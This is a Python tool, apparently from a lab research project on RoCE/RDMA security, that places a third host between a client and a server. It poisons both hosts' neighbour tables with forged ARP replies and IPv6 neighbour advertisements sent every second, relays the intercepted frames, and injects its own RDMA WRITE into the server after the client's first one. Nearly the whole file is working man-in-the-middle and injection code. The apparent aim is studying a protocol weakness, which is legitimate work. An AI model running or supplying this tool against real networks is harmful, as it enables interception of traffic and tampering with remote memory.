"""A third host that gets between two others, and then does what a switch could.

Usage: between.py DEVICE CLIENT SERVER

CLIENT and SERVER are ADDRESS/MAC. By ARP, or for IPv6 by neighbour advertisements, it
tells each of them, again and again, that the other one's address is at its own MAC.
Nothing in ARP (RFC 826) or in these (RFC 4861) proves who says so. It passes on the
frames that it then gets; and after the client's first RDMA WRITE it sends the server
one of its own.

Runs until SIGTERM, on a node of the lab only: see docs/psn_security.md.
"""
import collections
import collections.abc
import ipaddress
import pathlib
import select
import socket
import struct

from lib.arguments import Parser
from lib.wiretap import parties, roce, switch

ARP, REPLY = 0x0806, 2
ICMPV6, ADVERTISEMENT = 58, 136
# "You have asked for it", and "forget what you knew".
SOLICITED_OVERRIDE = 0x60000000
# Node c's: whoever announces an address need not have it.
SPEAKER = socket.inet_pton(socket.AF_INET6, '2001:db8::3')
AGAIN = 1.0  # seconds; Linux does not change an entry more often
Host = collections.namedtuple('Host', 'ip mac')


def host(text: str) -> Host:
    """From ADDRESS/MAC."""
    address, _, mac = text.partition('/')
    return Host(ipaddress.ip_address(parties.node(address)).packed,
                bytes.fromhex(mac.replace(':', '')))


def claim(own: bytes, other: Host, victim: Host) -> bytes:
    """A frame that tells victim: the address of other is at the MAC own."""
    if len(other.ip) == 16:
        says = struct.pack('!BBHI16sBB6s', ADVERTISEMENT, 0, 0, SOLICITED_OVERRIDE,
                           other.ip, 2, 1, own)
        ends = SPEAKER + victim.ip
        total = roce.checksum(ends + struct.pack('!II', len(says), ICMPV6) + says)
        return victim.mac + own + struct.pack(
            '!HIHBB', 0x86dd, 6 << 28, len(says), ICMPV6, 255) + ends + \
            says[:2] + struct.pack('!H', total) + says[4:]
    return victim.mac + own + struct.pack(
        '!HHHBBH6s4s6s4s', ARP, 1, 0x0800, 6, 4, REPLY, own, other.ip,
        victim.mac, victim.ip)


def stand_between(port: socket.socket, own: bytes, client: Host,
                  server: Host) -> tuple[int, int]:
    """Until SIGTERM; returns how many frames were passed on, and sent."""
    party, stop = parties.make('bytes'), switch.stopped()
    passed = sent = 0
    print('answering for both', flush=True)
    while True:
        # Only what they believe from time to time stays in their tables.
        for other, victim in ((client, server), (server, client)):
            port.send(claim(own, other, victim))
        if stop in select.select([stop, port], [], [], AGAIN)[0]:
            return passed, sent
        for frame in waiting(port):
            ends, carried = roce.ip_ends(frame)
            # What they ask each other about their MACs, they had better not get.
            if frame[:6] != own or not roce.ip_size(frame) or carried == ICMPV6 or \
                    ends not in (client.ip + server.ip, server.ip + client.ip):
                continue
            passed += 1
            sent += switch.handle(
                party, frame, ends == client.ip + server.ip,
                lambda to_server, one: port.send(
                    (server if to_server else client).mac + own + one[12:]))


def waiting(port: socket.socket) -> collections.abc.Iterator[bytes]:
    """The frames that are there now."""
    while select.select([port], [], [], 0)[0]:
        yield port.recv(65536)


def main() -> None:
    """Parses the command line, and gets between."""
    parser = Parser(__doc__)
    parser.add_argument('device')
    parser.add_argument('client', type=host)
    parser.add_argument('server', type=host)
    args = parser.parse_args()
    parties.only_in_lab('between')
    own = bytes.fromhex(pathlib.Path(f'/sys/class/net/{args.device}/address')
                        .read_text().strip().replace(':', ''))
    passed, sent = stand_between(switch.open_port(args.device), own, args.client,
                                 args.server)
    kind = 0x0800 if len(args.client.ip) == 4 else 0x86dd
    print(f'passed on: {passed} of ethertype 0x{kind:04x}')
    print(f'sent of its own: {sent}')


main()
